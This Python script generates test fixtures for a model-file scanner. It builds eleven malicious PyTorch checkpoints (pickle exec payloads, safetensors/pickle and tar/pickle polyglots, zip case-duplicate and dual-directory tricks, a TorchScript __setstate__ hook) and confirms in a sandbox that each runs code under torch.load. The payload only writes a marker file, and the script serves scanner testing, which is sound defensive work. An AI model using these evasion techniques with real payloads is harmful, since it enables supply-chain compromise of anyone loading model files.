"""Write files that torch.load(weights_only=False) reads differently from a naive reader,
each with a payload, and check with real PyTorch that the payload runs.

Usage: make_torch_differentials.py OUT_DIR

For every case, OUT_DIR/<name> is written and then loaded with
torch.load(<name>, weights_only=False) in a fresh Python subprocess whose working folder
is a new temporary folder holding only a copy of the file (the sandbox): the payload
writes `tvck-pwned.txt` into its working folder (the TorchScript case prints a marker from
its compiled code instead). A case whose payload does not run is an error (exit 1).
OUT_DIR/manifest.json maps each file to its class and the words tvck's finding must
contain. tests/it/torch_differentials.rs runs tvck on them.
"""

import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile

import torch

from make_attacks import shift_zip  # the one directory-offset shifter

MARKER = "tvck-pwned.txt"
CODE = f"open({MARKER!r}, 'w').write('pwned')"
TS_MARKER = "tvck-torchscript-ran"


class Payload:
    def __reduce__(self):
        return (exec, (CODE,))


def p0_payload():
    """A protocol 0 pickle: GLOBAL builtins.exec, REDUCE."""
    return b"cbuiltins\nexec\n(V" + CODE.encode() + b"\ntR."


def payload_value_ops():
    """Protocol-2 opcodes pushing exec(CODE) (no PROTO, no STOP)."""
    return b"cbuiltins\nexec\n(X" + struct.pack("<I", len(CODE)) + CODE.encode() + b"tR"


def zip_of(entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                z.writestr(name, data)
    return b.getvalue()


def benign():
    return pickle.dumps({"epoch": 1}, protocol=2)


def case_protocol0():
    return p0_payload()


def case_protocol1():
    return pickle.dumps(Payload(), protocol=1)


def case_deep_nesting():
    depth = 2000
    return b"\x80\x02" + b"]" * depth + payload_value_ops() + b"a" * depth + b"."


def case_legacy_header():
    # The magic number, then the payload where the protocol version belongs: torch runs it
    # before it checks the version.
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return magic + pickle.dumps(Payload(), protocol=2) + b"\x00" * 16


def case_safetensors_polyglot():
    """A safetensors header that is a pickle from byte 0 (PROTO 2, BINFLOAT over the
    length's high bytes, SHORT_BINSTRINGs through the JSON), whose tensor data is the
    payload."""
    payload = b"\x80\x02" + payload_value_ops() + b"."
    n = 0x80 | (0x02 << 8) | (ord("G") << 16)  # header length: bytes 3..7 are zero
    tail = '":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))
    header = bytearray(b'{"x')  # bytes 8, 9, 10 end the BINFLOAT argument
    remaining = n - len(header)  # bytes from 11 to the header's end, all SHORT_BINSTRINGs
    while remaining > 0:
        if remaining - 128 >= 2 + len(tail) or remaining - 128 == 0:
            header += b"U~" + b"a" * 126
            remaining -= 128
        else:
            last = remaining - 2
            assert len(tail) <= last <= 126, last
            header += b"U" + bytes([last]) + b"a" * (last - len(tail)) + tail.encode()
            remaining = 0
    assert len(header) == n
    data = struct.pack("<Q", n) + bytes(header) + payload
    assert data[:3] == b"\x80\x02G"
    return data


def tar_member(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def case_tar_polyglot():
    """A legacy tar checkpoint whose first member's name is a benign pickle; its `pickle`
    member is the payload."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:", format=tarfile.USTAR_FORMAT, encoding="latin-1") as tar:
        tar_member(tar, "\x80\x02}.", b"")
        tar_member(tar, "sys_info", pickle.dumps({"little_endian": True}, protocol=2))
        tar_member(tar, "storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
        tar_member(tar, "tensors", pickle.dumps(0, protocol=2))
        tar_member(tar, "pickle", pickle.dumps(Payload(), protocol=2))
    data = b.getvalue()
    assert data.startswith(b"\x80\x02}.")
    return data


def case_tar_payload_in_record():
    """A legacy tar checkpoint whose second storage record (a pickle between raw storage
    bytes, which a sweep of each member's first pickle never reaches) is the payload."""
    s = io.BytesIO()
    s.write(pickle.dumps(2, protocol=2))
    s.write(pickle.dumps((1, "cpu", torch.FloatStorage), protocol=2))
    s.write(struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0))
    s.write(pickle.dumps(Payload(), protocol=2))
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:", format=tarfile.USTAR_FORMAT) as tar:
        tar_member(tar, "storages", s.getvalue())
        tar_member(tar, "tensors", pickle.dumps(0, protocol=2))
        tar_member(tar, "pickle", benign())
    return b.getvalue()


def case_zip_uppercase():
    return zip_of([("archive/DATA.PKL", pickle.dumps(Payload(), protocol=2)),
                   ("archive/version", b"3\n")])


def case_zip_case_duplicate():
    return zip_of([("archive/DATA.PKL", pickle.dumps(Payload(), protocol=2)),
                   ("archive/data.pkl", benign()), ("archive/version", b"3\n")])


def case_zip_two_directories():
    """A benign archive whose comment holds a second directory (and end record) over a
    payload: torch's reader takes the last end record."""
    outer = zip_of([("archive/data.pkl", benign()), ("archive/version", b"3\n")])
    e_outer = outer.rfind(b"PK\x05\x06")
    base = e_outer + 22
    inner = bytearray(shift_zip(zip_of([("archive/data.pkl", pickle.dumps(Payload(), protocol=2)),
                                        ("archive/version", b"3\n")]), base))
    inner += b"JUNK"  # the outer record's comment reaches the end; the inner one's does not
    outer = bytearray(outer)
    struct.pack_into("<H", outer, e_outer + 20, len(inner))
    return bytes(outer) + bytes(inner)


def case_torchscript():
    class M(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.nn.Parameter(torch.zeros(2))

        @torch.jit.export
        def __getstate__(self):
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]):
            print("tvck-torchscript-ran")
            self.w = state[0]
            self.training = state[1]

        def forward(self, x):
            return x + self.w

    b = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), b)
    return b.getvalue()


CASES = {
    # name: (maker, class, words tvck's finding must contain)
    "protocol0.pt": (case_protocol0, "payload summarised as corrupt", "builtins.exec"),
    "protocol1.pt": (case_protocol1, "payload summarised as corrupt", "builtins.exec"),
    "deep_nesting.pt": (case_deep_nesting, "payload summarised as corrupt", "builtins.exec"),
    "legacy_header.pt": (case_legacy_header, "payload summarised as corrupt", "builtins.exec"),
    "safetensors_polyglot.pt": (case_safetensors_polyglot, "polyglot", "safetensors/pickle polyglot"),
    "tar_polyglot.pt": (case_tar_polyglot, "polyglot", "tar/pickle polyglot"),
    "tar_payload_in_record.pt": (case_tar_payload_in_record, "legacy tar records",
                                 "tar member `storages`"),
    "zip_uppercase.pt": (case_zip_uppercase, "zip name matching", "case-insensitive"),
    "zip_case_duplicate.pt": (case_zip_case_duplicate, "zip name matching", "differ only in case"),
    "zip_two_directories.pt": (case_zip_two_directories, "zip end records", "end-of-central-directory"),
    "torchscript.pt": (case_torchscript, "TorchScript", "TorchScript archive"),
}

LOAD = (
    "import sys, warnings, torch\n"
    "warnings.simplefilter('ignore')\n"
    "try:\n"
    "    torch.load(sys.argv[1], weights_only=False)\n"
    "except Exception as e:\n"
    "    print('load failed:', type(e).__name__)\n"
)


def payload_runs(path):
    """Load a copy of `path` with torch in a fresh process inside an empty temp folder."""
    with tempfile.TemporaryDirectory() as sandbox:
        copy = os.path.join(sandbox, os.path.basename(path))
        shutil.copy(path, copy)
        r = subprocess.run([sys.executable, "-c", LOAD, os.path.basename(path)], cwd=sandbox,
                           capture_output=True, text=True, timeout=300)
        return os.path.exists(os.path.join(sandbox, MARKER)) or TS_MARKER in r.stdout


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    manifest = {}
    failed = []
    for name, (make, klass, words) in CASES.items():
        path = os.path.join(out, name)
        with open(path, "wb") as f:
            f.write(make())
        ran = payload_runs(path)
        if not ran:
            failed.append(name)
        manifest[name] = {"class": klass, "finding": words, "payload_ran_under_torch": ran}
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    if failed:
        print("payload did not run under torch.load:", ", ".join(failed), file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
